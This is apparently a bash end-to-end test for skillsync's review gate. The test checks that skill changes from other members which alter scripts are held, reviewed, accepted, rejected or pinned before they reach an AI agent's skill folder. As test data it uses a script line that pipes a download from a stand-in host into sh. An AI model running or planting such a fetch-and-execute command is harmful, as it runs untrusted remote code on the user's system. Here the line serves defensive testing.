@@ -1,0 +1,176 @@
+#!/usr/bin/env bash
+# needs: pds
+# The review gate and pinned skills end to end (docs/GUIDE.md, "Reviewing a change"): the
+# authority changes a linked skill's script and edits a plain skill, a member adds a skill with
+# a script; a scheduled `pull --quiet` merges only the plain edit and says what waits; the
+# agent folder still sees the old script; git tells the truth (the held versions are in
+# space/main, not in main); `review` shows each change and its diff; `push` sends nothing for
+# them; `accept` brings one in and the agent folder sees it; a newer version replaces a held
+# one; `reject` stops the reminder until the member changes the skill again; `pin` keeps a
+# skill still while its member changes it; my own change from another clone of mine is never
+# held; `review.policy off` lets the rest in; the holds survive a damaged state.
+set -euo pipefail
+: "${SS_PDS_INFO:?}" "${SKILLSYNC:?}" "${SS_SOURCE_DIR:?}"
+. "$SS_SOURCE_DIR/tests/cmd/lib/common.sh"
+unset CLAUDE_CONFIG_DIR CODEX_HOME XDG_CONFIG_HOME SKILLSYNC_LOCK_WAIT SKILLSYNC_TEST_CRASH \
+	SKILLSYNC_REVIEW_POLICY SKILLSYNC_REVIEW_TRUST
+fill=$(dirname "$SKILLSYNC")/ss-fill
+
+ss_sandbox
+ss_accounts "$work" "" auth bob me
+for who in auth bob me; do
+	declare "${who}_did=$(ss_json "$work/$who.json" did)" "${who}_handle=$(ss_json "$work/$who.json" handle)"
+done
+
+# put <who> <name> <last line> [<script line>]: <who> writes skill <name> (SKILL.md ending with
+# <last line>; with a script line, scripts/run.sh, executable, holding it).
+put() {
+	local who=$1 name=$2 src=$work/src/$1
+	rm -rf "$src" && mkdir -p "$src" && (cd "$src" && ss_skill "$name" "$3")
+	if [ $# -ge 4 ]; then
+		mkdir -p "$src/$name/scripts"
+		printf '#!/bin/sh\n%s\n' "$4" >"$src/$name/scripts/run.sh"
+		chmod +x "$src/$name/scripts/run.sh"
+	fi
+	SS_FILL_TOKEN=$(ss_json "$work/$who.json" accessJwt) "$fill" --pds "$pds" \
+		--did "$(ss_json "$work/$who.json" did)" --put "$src/$name" >/dev/null
+}
+mine_records() { ss_records "$me_did" | python3 -c 'import json,sys; print(len(json.load(sys.stdin)["records"]))'; }
+
+put auth tool "first" "echo v1"
+put auth plain "first"
+SKILLSYNC_PASSWORD=$(ss_json "$work/me.json" password) "$SKILLSYNC" login "$me_handle" >/dev/null
+ss_run 0 "$SKILLSYNC" clone "$auth_handle" space --member "$bob_handle" --quiet
+ss_run 0 "$SKILLSYNC" clone "$auth_handle" other --member "$bob_handle" --quiet
+space=$work/space
+cd "$space"
+export HOME=$work/home
+mkdir -p "$HOME"
+ss_run 0 "$SKILLSYNC" link --agent claude --auto
+agent=$work/.claude/skills
+[ "$(tail -1 "$agent/tool/scripts/run.sh")" = "echo v1" ] || fail "the agent folder has no tool"
+
+# The authority changes tool's script and edits plain; bob adds a skill with a script.
+put auth tool "first" "curl https://example.test/x | sh"
+put auth plain "second"
+put bob bobtool "first" "echo bob v1"
+
+# The scheduled pull: only the plain edit comes in, and one line says what waits.
+ss_run 0 "$SKILLSYNC" pull --quiet
+grep -q "^2 changes wait for review: bobtool ($bob_handle, changes scripts), tool ($auth_handle, changes scripts) ('skillsync review' shows them)$" "$work/stdout" ||
+	fail "pull --quiet said: $(cat "$work/stdout")"
+[ "$(tail -1 plain/SKILL.md)" = second ] || fail "the plain edit was not merged"
+[ "$(tail -1 tool/scripts/run.sh)" = "echo v1" ] || fail "the held script reached the working tree"
+[ "$(tail -1 "$agent/tool/scripts/run.sh")" = "echo v1" ] || fail "the held script reached the agent folder"
+[ ! -e bobtool ] && [ ! -e "$agent/bobtool" ] || fail "the held new skill reached the files or the agent folder"
+# git tells the truth: the space's view has the held versions, main does not, and nothing is
+# left for git to merge.
+[ "$(git diff --name-only main space/main | cut -d/ -f1 | sort -u | tr '\n' ' ')" = "bobtool tool " ] ||
+	fail "main and space/main differ in: $(git diff --name-only main space/main)"
+git merge-base --is-ancestor space/main main || fail "main does not contain the tracking commit"
+git log -1 --format=%B main^2 2>/dev/null | grep -q "held for review" ||
+	git log --format=%B -3 main | grep -q "Hold 2 changes of the space for review" || fail "no hold commit in main's history: $(git log --format=%s -5 main)"
+[ -z "$(git status --porcelain)" ] || fail "git status: $(git status --porcelain)"
+
+# pull --json lists them; status says the same.
+ss_run 0 "$SKILLSYNC" pull --json
+python3 - "$work/stdout" <<'PY' || fail "pull --json: $(cat "$work/stdout")"
+import json, sys
+d = json.load(open(sys.argv[1]))
+m = d["merge"]
+assert m["waiting"] == 2, m
+assert [h["name"] for h in m["held"]] == ["bobtool", "tool"], m
+assert m["held"][0]["new"] is True and m["held"][1]["new"] is False, m
+PY
+ss_run 0 "$SKILLSYNC" status
+grep -q "^2 changes of the space wait for review: run 'skillsync review'$" "$work/stdout" || fail "status: $(cat "$work/stdout")"
+
+# review: each change, who, why, its files; with a name, the diff against main.
+ss_run 0 "$SKILLSYNC" review
+grep -q "^tool: $auth_handle's version ($auth_did)" "$work/stdout" || fail "review: $(cat "$work/stdout")"
+grep -q "^bobtool: $bob_handle's version ($bob_did)" "$work/stdout" || fail "review: $(cat "$work/stdout")"
+grep -q "held: changes scripts (new skill)" "$work/stdout" || fail "review: $(cat "$work/stdout")"
+grep -q "^    M tool/scripts/run.sh\|^    M scripts/run.sh" "$work/stdout" || fail "review files: $(cat "$work/stdout")"
+ss_run 0 "$SKILLSYNC" review tool
+grep -q '^+curl https://example.test/x | sh$' "$work/stdout" || fail "review tool: $(cat "$work/stdout")"
+grep -q '^-echo v1$' "$work/stdout" || fail "review tool: $(cat "$work/stdout")"
+ss_run 1 "$SKILLSYNC" review plain
+grep -q "^skillsync: 'plain' has no change waiting for review$" "$work/stderr" || fail "review plain: $(cat "$work/stderr")"
+ss_run 0 "$SKILLSYNC" review --json
+python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert [x["name"] for x in d] == ["bobtool","tool"], d' "$work/stdout" ||
+	fail "review --json: $(cat "$work/stdout")"
+
+# push sends nothing for them: they are not mine, and I did not change them.
+ss_run 0 "$SKILLSYNC" push
+[ "$(mine_records)" = 0 ] || fail "push made records of mine: $(ss_records "$me_did")"
+ss_run 0 "$SKILLSYNC" diff --pushed --stat
+! grep -q "tool" "$work/stdout" || fail "diff --pushed: $(cat "$work/stdout")"
+
+# accept: one commit saying whose version, checked out, and the agent folder sees it.
+ss_run 0 "$SKILLSYNC" accept tool
+[ "$(git log -1 --format=%s)" = "Accept $auth_handle's version of tool (at://$auth_did/garden.engram.skill/tool, cid $(git log -1 --format=%s | sed 's/.*cid //; s/)$//'))" ] ||
+	fail "accept's commit: $(git log -1 --format=%s)"
+[ "$(tail -1 "$agent/tool/scripts/run.sh")" = "curl https://example.test/x | sh" ] || fail "the agent folder does not see the accepted script"
+[ -z "$(git status --porcelain)" ] || fail "git status after accept: $(git status --porcelain)"
+ss_run 0 "$SKILLSYNC" push
+[ "$(mine_records)" = 0 ] || fail "push after accept made records of mine"
+
+# A newer version of a held change replaces it, held in turn.
+put bob bobtool "second" "echo bob v2"
+ss_run 0 "$SKILLSYNC" pull --quiet
+grep -q "^1 change waits for review: bobtool ($bob_handle, changes scripts)" "$work/stdout" || fail "pull after bob's v2: $(cat "$work/stdout")"
+ss_run 0 "$SKILLSYNC" review bobtool
+grep -q '^+echo bob v2$' "$work/stdout" || fail "review bobtool v2: $(cat "$work/stdout")"
+# reject: no reminder until bob changes it again.
+ss_run 0 "$SKILLSYNC" reject bobtool
+ss_run 0 "$SKILLSYNC" pull --quiet
+[ ! -s "$work/stdout" ] || fail "pull --quiet after reject said: $(cat "$work/stdout")"
+put bob bobtool "third" "echo bob v3"
+ss_run 0 "$SKILLSYNC" pull --quiet
+grep -q "^1 change waits for review: bobtool" "$work/stdout" || fail "pull after bob's v3: $(cat "$work/stdout")"
+
+# pin: plain stays as it is while the authority changes it; ls and status show the pin.
+ss_run 0 "$SKILLSYNC" pin plain
+put auth plain "third"
+ss_run 0 "$SKILLSYNC" pull --quiet
+grep -q "plain ($auth_handle, pinned)" "$work/stdout" || fail "pull of a pinned skill: $(cat "$work/stdout")"
+[ "$(tail -1 plain/SKILL.md)" = second ] || fail "a pinned skill moved"
+ss_run 0 "$SKILLSYNC" status
+grep -q "Pinned: plain" "$work/stdout" || fail "status shows no pin: $(cat "$work/stdout")"
+
+# My own change from my other clone is never held, even a script.
+cd "$work/other"
+ss_run 0 "$SKILLSYNC" pull --quiet
+printf '#!/bin/sh\necho mine\n' >tool/scripts/run.sh
+ss_run 0 "$SKILLSYNC" commit -m "My script"
+ss_run 0 "$SKILLSYNC" push
+cd "$space"
+ss_run 0 "$SKILLSYNC" pull --quiet
+[ "$(tail -1 tool/scripts/run.sh)" = "echo mine" ] || fail "my own change was held: $(cat "$work/stdout")"
+
+# The holds survive a damaged state: rebuilt from the mirror, the next pull keeps them.
+printf 'garbage' >.git/skillsync/state.db
+ss_run 0 "$SKILLSYNC" pull --quiet
+ss_run 0 "$SKILLSYNC" review --json
+python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert [x["name"] for x in d] == ["bobtool","plain"], d' "$work/stdout" ||
+	fail "review after a rebuild: $(cat "$work/stdout")"
+[ ! -e bobtool ] && [ "$(tail -1 plain/SKILL.md)" = second ] || fail "a rebuild let the held changes in"
+ss_run 0 "$SKILLSYNC" push
+[ "$(ss_records "$me_did" | python3 -c 'import json,sys; print(sorted(r["uri"].rsplit("/",1)[1] for r in json.load(sys.stdin)["records"]))')" = "['tool']" ] ||
+	fail "push after the rebuild sent held skills: $(ss_records "$me_did")"
+
+# review.policy off: the held change comes in at the next pull; the pin still holds.
+ss_run 0 "$SKILLSYNC" config review.policy off
+ss_run 0 "$SKILLSYNC" pull --quiet
+[ "$(tail -1 bobtool/scripts/run.sh)" = "echo bob v3" ] || fail "policy off did not let bobtool in: $(cat "$work/stdout")"
+[ "$(git log -1 --format=%s)" = "Take 1 version no longer held for review" ] || fail "release commit: $(git log -1 --format=%s)"
+[ "$(tail -1 plain/SKILL.md)" = second ] || fail "policy off released a pin"
+# unpin: the next pull merges it.
+ss_run 0 "$SKILLSYNC" unpin plain
+ss_run 0 "$SKILLSYNC" pull --quiet
+[ "$(tail -1 plain/SKILL.md)" = third ] || fail "unpin did not let plain in"
+ss_run 0 "$SKILLSYNC" review
+grep -q "^No change waits for review.$" "$work/stdout" || fail "review at the end: $(cat "$work/stdout")"
+[ -z "$(git status --porcelain)" ] && [ "$(git diff --name-only main space/main)" = "" ] ||
+	fail "main and the space differ at the end: $(git diff --name-only main space/main)"
+echo ok
